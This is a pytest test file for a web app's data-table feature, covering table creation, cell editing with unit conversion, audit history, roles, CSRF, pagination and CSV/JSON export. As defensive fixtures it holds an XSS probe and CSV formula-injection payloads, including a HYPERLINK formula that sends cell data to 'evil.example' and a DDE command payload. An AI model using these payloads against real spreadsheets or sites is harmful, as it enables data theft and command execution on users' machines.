import csv
import io
import re

from sqlalchemy import func, insert, select

from tests.support.html import by_id, rows, soup
from webapp.extensions import db
from webapp.review.models import Change
from webapp.tables import catalog
from webapp.tables.models import ROW_TARGET, DataTable, TableColumn, TableRow

COLUMNS = [
    {"name": "Variety", "type": "text"},
    {"name": "Yield", "type": "number", "unit": "t/ha"},
    {"name": "Organic", "type": "boolean"},
    {"name": "Soil", "type": "select", "options": ["sand", "loam"]},
]


def make_table(name="Wheat trial", rows=()) -> DataTable:
    table = catalog.create_table(name, COLUMNS, None)
    if rows:
        catalog.add_rows(table, list(rows), None)
    db.session.commit()
    return table


def first_row(table: DataTable) -> TableRow:
    return catalog.rows_page(table, 1).items[0]


def test_the_list_shows_each_tables_columns_rows_and_last_change(client_as):
    make_table(rows=[{"Variety": "Aron"}, {"Variety": "Bussard"}])
    make_table("<script>alert(1)</script>")
    page = client_as("viewer").get("/tables").get_data(as_text=True)
    assert "Wheat trial" in page and "Variety, Yield, Organic, Soil" in page
    assert re.search(r'<td class="num">2</td>', page)
    assert "UTC</time>" in page
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    assert "New table" not in page and "Import CSV" not in page  # viewers read
    editor_page = client_as("editor").get("/tables").get_data(as_text=True)
    assert "New table" in editor_page and "Import CSV" in editor_page
    home = client_as("viewer").get("/").get_data(as_text=True)
    assert 'href="/tables"' in home


def test_an_editor_makes_a_table_with_the_new_table_form(client_as):
    editor = client_as("editor")
    form = {
        "name": "Barley 2025",
        "columns-0-name": "Plot",
        "columns-0-type": "text",
        "columns-1-name": "Yield",
        "columns-1-type": "number",
        "columns-1-unit": "t/ha",
        "columns-2-name": "Soil",
        "columns-2-type": "select",
        "columns-2-options": "sand\r\nloam\r\n",
        "columns-3-name": "",
        "columns-3-type": "text",
    }
    response = editor.submit("/tables/new", form, page="/tables/new")
    assert response.status_code == 302
    table = db.session.scalars(select(DataTable)).one()
    assert response.headers["Location"] == f"/tables/{table.id}"
    assert [(c.name, c.type, c.unit, c.options) for c in table.columns] == [
        ("Plot", "text", None, []),
        ("Yield", "number", "t/ha", []),
        ("Soil", "select", None, ["sand", "loam"]),
    ]
    assert table.created_by_id == editor.user.id


def test_the_new_table_form_marks_every_problem_and_keeps_what_was_typed(client_as):
    editor = client_as("editor")
    make_table()
    form = {
        "name": "wheat TRIAL",
        "columns-0-name": "Yield",
        "columns-0-type": "number",
        "columns-0-unit": "bushels per acre, dry matter basis",
        "columns-1-name": "Soil",
        "columns-1-type": "select",
    }
    response = editor.submit("/tables/new", form, page="/tables/new")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "There is already a table named “wheat TRIAL”." in page
    assert "A unit is limited to 32 characters." in page
    assert "A select column needs at least one option." in page
    assert 'value="bushels per acre, dry matter basis"' in page
    assert 'id="columns-1-options-error"' in page
    more = editor.submit("/tables/new", {**form, "more": "1"}, page="/tables/new")
    assert more.status_code == 200 and 'name="columns-2-name"' in more.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(DataTable)) == 1


def test_the_table_page_leaves_room_for_enrichment(client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "7.5", "Organic": "yes"}])
    row = first_row(table)
    page = client_as("editor").get(f"/tables/{table.id}").get_data(as_text=True)
    assert 'id="table-rows"' in page
    rows_form = page.split('<form id="rows-form"')[1].split("</form>")[0]
    assert f'name="row" value="{row.id}"' in rows_form
    for column in table.columns:
        assert f'id="cell-{row.id}-{column.id}"' in rows_form
    assert 'Yield</span><span class="column-type">number · t/ha</span>' in page
    assert ">7.5</button>" in page and ">true</button>" in page
    assert page.index('id="rows-form"') < page.index('id="add-row"')
    # The rows' actions come before the rows (kept in view as they scroll by).
    assert page.index("Delete selected rows") < page.index('id="table-rows"')
    viewer = client_as("viewer").get(f"/tables/{table.id}").get_data(as_text=True)
    assert 'name="row"' not in viewer and "hx-get" not in viewer.split('id="table-rows"')[1]


def test_a_number_typed_with_a_unit_is_converted_to_the_columns_and_noted(htmx_client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "7.5"}])
    row, yield_ = first_row(table), table.columns[1]
    editor = htmx_client_as("editor")
    base = f"/tables/{table.id}/rows/{row.id}/cells/{yield_.id}"
    field = f"edit-{row.id}-c{yield_.id}"
    headers = {"X-CSRFToken": editor.csrf_token()}

    saved = editor.post(base, data={field: "3 kg/m2"}, headers=headers)
    html = saved.get_data(as_text=True)
    assert saved.status_code == 200
    assert ">30</button>" in html and "converted 3 kg/m2 to 30 t/ha" in html
    for typed, message in (
        ("0.2 kg/plant", "kg/plant (mass per plant) cannot be converted to t/ha (mass per area)."),
        ("2–4 t/ha", "Give one number, not the range"),
        ("5 bananas", "&#39;bananas&#39; after the number is not a unit that converts to t/ha."),
    ):
        refused = editor.post(base, data={field: typed}, headers=headers)
        assert refused.status_code == 422, typed
        assert message in refused.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(TableRow, row.id).value(yield_) == 30


def test_a_cell_is_edited_in_place_and_every_change_is_audited(htmx_client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "7.5"}])
    row, yield_ = first_row(table), table.columns[1]
    editor = htmx_client_as("editor")
    base = f"/tables/{table.id}/rows/{row.id}/cells/{yield_.id}"
    field = f"edit-{row.id}-c{yield_.id}"

    form = editor.get(f"{base}/edit")
    html = form.get_data(as_text=True)
    assert form.status_code == 200
    assert html.lstrip().startswith(f'<td id="cell-{row.id}-{yield_.id}"')
    assert f'name="{field}"' in html and 'value="7.5"' in html and f'hx-post="{base}"' in html

    headers = {"X-CSRFToken": editor.csrf_token()}
    bad = editor.post(base, data={field: "seven"}, headers=headers)
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422
    assert "Give a number, not &#39;seven&#39;." in html and 'value="seven"' in html
    assert 'aria-invalid="true"' in html and "<html" not in html

    saved = editor.post(base, data={field: "8,25"}, headers=headers)
    html = saved.get_data(as_text=True)
    assert saved.status_code == 200
    assert (
        html.lstrip().startswith(f'<td id="cell-{row.id}-{yield_.id}"') and ">8.25</button>" in html
    )
    assert editor.post(base, data={field: "8.25"}, headers=headers).status_code == 200
    cleared = editor.post(base, data={field: ""}, headers=headers)
    assert "—" in cleared.get_data(as_text=True)

    changes = db.session.scalars(
        select(Change)
        .where(Change.target_type == ROW_TARGET, Change.target_id == row.id)
        .order_by(Change.id)
    ).all()
    # The first two were the row's values when it was added; the unchanged save made none.
    assert [(c.field, c.old_value, c.new_value, c.source) for c in changes[2:]] == [
        (yield_.key, 7.5, 8.25, "manual"),
        (yield_.key, 8.25, None, "manual"),
    ]
    assert changes[-1].user_id == editor.user.id

    history = by_id(editor.get(f"/tables/{table.id}/rows/{row.id}/history"), "history")
    # Newest first: what a change made, and the Yield before and after.
    assert [change[2:6] for change in rows(history) if change[2] == "Yield"] == [
        ["Yield", "8.25", "—", "manual"],
        ["Yield", "7.5", "8.25", "manual"],
        ["Yield", "—", "7.5", "manual"],
    ]
    # People by name (this one has none: the address's part before the @), never an address.
    assert editor.user.email not in history.get_text()
    assert editor.user.email.partition("@")[0] in history.get_text()
    cancel = editor.get(base).get_data(as_text=True)
    assert cancel.lstrip().startswith(f'<td id="cell-{row.id}-{yield_.id}"')


def test_yes_no_and_select_cells_offer_their_choices(htmx_client_as):
    table = make_table(rows=[{"Organic": "no", "Soil": "loam"}])
    row = first_row(table)
    editor = htmx_client_as("editor")
    organic, soil = table.columns[2], table.columns[3]
    html = editor.get(f"/tables/{table.id}/rows/{row.id}/cells/{organic.id}/edit").get_data(
        as_text=True
    )
    assert "<select" in html and '<option selected value="false">no</option>' in html
    html = editor.get(f"/tables/{table.id}/rows/{row.id}/cells/{soil.id}/edit").get_data(
        as_text=True
    )
    assert '<option selected value="loam">loam</option>' in html
    token = {"X-CSRFToken": editor.csrf_token()}
    wrong = editor.post(
        f"/tables/{table.id}/rows/{row.id}/cells/{soil.id}",
        data={f"edit-{row.id}-c{soil.id}": "peat"},
        headers=token,
    )
    assert wrong.status_code == 422 and "Choose one of the options (sand, loam)." in wrong.get_data(
        as_text=True
    )


def test_a_cell_of_another_table_is_not_found(htmx_client_as):
    table = make_table(rows=[{"Variety": "Aron"}])
    other = make_table("Other", rows=[{"Variety": "x"}])
    editor = htmx_client_as("editor")
    row = first_row(other)
    url = f"/tables/{table.id}/rows/{row.id}/cells/{table.columns[0].id}/edit"
    assert editor.get(url).status_code == 404
    url = f"/tables/{table.id}/rows/{first_row(table).id}/cells/{other.columns[0].id}/edit"
    assert editor.get(url).status_code == 404


def test_ten_thousand_rows_page_by_fifty(client_as):
    table = make_table()
    key = table.columns[0].key
    db.session.execute(
        insert(TableRow),
        [
            {"table_id": table.id, "position": n, "cells": {key: f"plot {n + 1}"}}
            for n in range(10_000)
        ],
    )
    db.session.commit()
    viewer = client_as("viewer")
    first = viewer.get(f"/tables/{table.id}").get_data(as_text=True)
    assert "Page 1 of 200" in first and "10,000 row(s)" in first
    assert first.count('<tr id="row-') == 50
    assert ">plot 1<" in first and ">plot 50<" in first and ">plot 51<" not in first
    middle = viewer.get(f"/tables/{table.id}?page=101").get_data(as_text=True)
    assert ">plot 5001<" in middle and ">plot 5050<" in middle and ">5001</td>" in middle
    last = viewer.get(f"/tables/{table.id}?page=200").get_data(as_text=True)
    assert ">plot 10000<" in last and "Next" not in last.split('class="pagination"')[1]
    beyond = viewer.get(f"/tables/{table.id}?page=201").get_data(as_text=True)
    assert "There are no rows on this page" in beyond
    fragment = client_as("viewer").get(f"/tables/{table.id}?page=2", headers={"HX-Request": "true"})
    html = fragment.get_data(as_text=True)
    assert html.lstrip().startswith('<section id="rows">') and ">plot 51<" in html


def test_rows_are_added_from_the_form_and_deleted_after_confirming(client_as):
    table = make_table(rows=[{"Variety": "Aron"}])
    editor = client_as("editor")
    page = f"/tables/{table.id}"
    fields = {f"add-c{c.id}": "" for c in table.columns}
    bad = editor.submit(
        f"{page}/rows", {**fields, f"add-c{table.columns[1].id}": "lots"}, page=page
    )
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422 and "Give a number, not &#39;lots&#39;." in html
    assert 'value="lots"' in html and "<details open>" in html
    values = {
        **fields,
        f"add-c{table.columns[0].id}": "Bussard",
        f"add-c{table.columns[1].id}": "6.5",
    }
    added = editor.submit(f"{page}/rows", values, page=page)
    assert added.status_code == 302 and "page=1#row-" in added.headers["Location"]
    assert editor.submit(f"{page}/rows", fields, page=page).status_code == 302  # a blank row
    rows = catalog.rows_page(table, 1).items
    assert [r.by_name(table.columns)["Variety"] for r in rows] == ["Aron", "Bussard", None]

    ids = [str(rows[0].id), str(rows[2].id)]
    asked = editor.submit(f"{page}/rows/delete", {"row": ids}, page=page)
    assert asked.status_code == 200 and "Delete 2 selected row(s)" in asked.get_data(as_text=True)
    assert catalog.rows_page(table, 1).total == 3
    done = editor.submit(f"{page}/rows/delete", {"row": ids, "confirmed": "1"}, page=page)
    assert done.status_code == 302
    assert [r.id for r in catalog.rows_page(table, 1).items] == [rows[1].id]
    nothing = editor.submit(f"{page}/rows/delete", {}, page=page, follow_redirects=True)
    assert "Select at least one row." in nothing.get_data(as_text=True)


def test_columns_are_added_renamed_moved_and_deleted_on_the_columns_page(client_as):
    table = make_table(rows=[{"Variety": "Aron", "Soil": "sand"}])
    editor = client_as("editor")
    page = f"/tables/{table.id}/columns"
    variety, soil = table.columns[0], table.columns[3]
    soil_key = soil.key

    added = editor.submit(
        page, {"name": "Protein", "type": "number", "unit": "%", "options": ""}, page=page
    )
    assert added.status_code == 302
    refused = editor.submit(page, {"name": "yield", "type": "text", "unit": "kg"}, page=page)
    html = refused.get_data(as_text=True)
    assert refused.status_code == 422
    assert "There is already a column named “yield”." in html
    assert "Only number columns have a unit." in html

    renamed = editor.submit(
        f"{page}/{soil.id}/rename", {f"rename-{soil.id}-name": "Soil type"}, page=page
    )
    assert renamed.status_code == 302
    clash = editor.submit(
        f"{page}/{soil.id}/rename", {f"rename-{soil.id}-name": "VARIETY"}, page=page
    )
    assert clash.status_code == 422
    assert "There is already a column named “VARIETY”." in clash.get_data(as_text=True)

    assert editor.submit(f"{page}/{soil.id}/move", {"to": "left"}, page=page).status_code == 302
    assert editor.submit(f"{page}/{variety.id}/move", {"to": "right"}, page=page).status_code == 302
    assert (
        editor.submit(f"{page}/{variety.id}/move", {"to": "up-ish"}, page=page).status_code == 400
    )

    confirm = editor.get(f"{page}/{soil.id}/delete").get_data(as_text=True)
    assert "Delete the column “Soil type”" in confirm
    assert editor.submit(f"{page}/{soil.id}/delete", page=page).status_code == 302

    db.session.expire_all()
    table = db.session.get(DataTable, table.id)
    assert [c.name for c in table.columns] == ["Yield", "Variety", "Organic", "Protein"]
    assert soil_key not in first_row(table).cells
    header = editor.get(f"/tables/{table.id}").get_data(as_text=True)
    assert header.index(">Yield<") < header.index(">Variety<") < header.index(">Protein<")


def test_roles_viewers_read_and_export_editors_write_reviewers_delete_tables(client_as):
    table = make_table(rows=[{"Variety": "Aron"}])
    table_id, row, column = table.id, first_row(table), table.columns[0]
    viewer = client_as("viewer")
    page = f"/tables/{table_id}"
    assert viewer.get(page).status_code == 200
    assert viewer.get(f"{page}/export.csv").status_code == 200
    assert viewer.get(f"{page}/rows/{row.id}/history").status_code == 200
    for url in ("/tables/new", "/tables/import", f"{page}/columns", f"{page}/delete"):
        assert viewer.get(url).status_code == 403, url
    for url in (
        "/tables/new",
        f"{page}/rows",
        f"{page}/rows/delete",
        f"{page}/rows/{row.id}/cells/{column.id}",
        f"{page}/columns",
        f"{page}/columns/{column.id}/rename",
        f"{page}/columns/{column.id}/move",
        f"{page}/columns/{column.id}/delete",
        f"{page}/delete",
    ):
        assert viewer.submit(url, {"row": str(row.id), "confirmed": "1"}).status_code == 403, url

    editor = client_as("editor")
    assert editor.get(f"{page}/delete").status_code == 403
    assert editor.submit(f"{page}/delete").status_code == 403
    reviewer = client_as("reviewer")
    assert "Delete the table “Wheat trial” with its 4 column(s) and 1 row(s)?" in reviewer.get(
        f"{page}/delete"
    ).get_data(as_text=True)
    assert reviewer.submit(f"{page}/delete").status_code == 302
    assert db.session.get(DataTable, table_id) is None
    assert db.session.scalar(select(func.count()).select_from(TableColumn)) == 0


def test_every_form_posts_the_csrf_token_the_server_checks(client_as):
    table = make_table(rows=[{"Variety": "Aron"}])
    reviewer = client_as("reviewer")
    column = table.columns[0]
    forms = 0
    for url in (
        f"/tables/{table.id}",
        f"/tables/{table.id}/columns",
        f"/tables/{table.id}/columns/{column.id}/delete",
        f"/tables/{table.id}/delete",
        "/tables/new",
        "/tables/import",
    ):
        page = reviewer.get(url).get_data(as_text=True)
        for form in re.findall(r'<form[^>]*method="post".*?</form>', page, re.S):
            forms += 1
            assert re.search(r'name="csrf_token"', form), (url, form[:200])
    assert forms >= 12


def test_posts_without_the_csrf_token_are_refused(client_as, htmx_client_as):
    table = make_table(rows=[{"Variety": "Aron"}])
    row, column = first_row(table), table.columns[0]
    editor = client_as("editor")
    assert editor.post("/tables/new", data={"name": "x", "columns-0-name": "a"}).status_code == 400
    assert editor.post(f"/tables/{table.id}/rows", data={}).status_code == 400
    cell = htmx_client_as("editor").post(
        f"/tables/{table.id}/rows/{row.id}/cells/{column.id}",
        data={f"edit-{row.id}-c{column.id}": "Bussard"},
    )
    assert cell.status_code == 400
    assert first_row(table).by_name(table.columns)["Variety"] == "Aron"
    assert db.session.scalar(select(func.count()).select_from(DataTable)) == 1


def test_exports_give_csv_and_json_with_the_tables_name(client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "7.5", "Organic": "yes"}])
    viewer = client_as("viewer")
    exported = viewer.get(f"/tables/{table.id}/export.csv")
    assert exported.headers["Content-Disposition"] == "attachment; filename=Wheat_trial.csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows == [["Variety", "Yield", "Organic", "Soil"], ["Aron", "7.5", "true", ""]]
    data = viewer.get(f"/tables/{table.id}/export.json").get_json()
    assert [c["type"] for c in data["columns"]] == ["text", "number", "boolean", "select"]
    assert data["rows"] == [{"Variety": "Aron", "Yield": 7.5, "Organic": True, "Soil": None}]
    assert viewer.get(f"/tables/{table.id}/export.xlsx").status_code == 404
    assert viewer.get("/tables/999999").status_code == 404


def test_the_csv_export_cannot_run_formulas_and_the_json_export_stays_exact(client_as):
    """Issue 11 §4: these were written verbatim into /tables/<id>/export.csv."""
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    table = catalog.create_table(
        "Attacks",
        [{"name": "=Name", "type": "text"}, {"name": "Yield", "type": "number"}],
        None,
    )
    catalog.add_rows(
        table,
        [{"=Name": attacks[0], "Yield": "-3"}, {"=Name": attacks[1]}, {"=Name": attacks[2]}],
        None,
    )
    db.session.commit()
    viewer = client_as("viewer")
    exported = viewer.get(f"/tables/{table.id}/export.csv").get_data(as_text=True)
    assert list(csv.reader(io.StringIO(exported))) == [
        ["'=Name", "Yield"],
        ["'" + attacks[0], "-3"],
        ["'" + attacks[1], ""],
        ["'" + attacks[2], ""],
    ]
    data = viewer.get(f"/tables/{table.id}/export.json").get_json()
    assert [c["name"] for c in data["columns"]] == ["=Name", "Yield"]
    assert data["rows"][0] == {"=Name": attacks[0], "Yield": -3}
    assert [r["=Name"] for r in data["rows"]] == attacks


def test_a_long_number_is_shown_to_three_figures_and_kept_whole(client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "5.942857143"}])
    row, yield_ = first_row(table), table.columns[1]
    viewer = client_as("viewer")
    cell = by_id(viewer.get(f"/tables/{table.id}"), f"cell-{row.id}-{yield_.id}")
    # Read as every page reads numbers; every digit is in the tooltip, the export and the data.
    assert cell.get_text(strip=True) == "5.94" and cell["title"] == "5.942857143"
    export = viewer.get(f"/tables/{table.id}/export.csv").get_data(as_text=True)
    assert "5.942857143" in export
    assert first_row(table).cells[yield_.key] == 5.942857143


def test_the_column_to_fill_is_the_first_empty_one(client_as):
    table = make_table(rows=[{"Variety": "Aron", "Yield": "7.5", "Organic": "yes"}])
    editor = client_as("editor")

    def chosen() -> str:
        page = soup(editor.get(f"/tables/{table.id}"))
        return by_id(page, "enrich-column").find("option", selected=True)["value"]

    # Variety names the rows; Yield and Organic are full: Soil is the first empty column.
    assert chosen() == "Soil"
    catalog.add_rows(table, [{"Variety": "Bodo", "Soil": "loam"}], None)
    db.session.commit()
    # Every column holds a value somewhere: the second, as before.
    assert chosen() == "Yield"
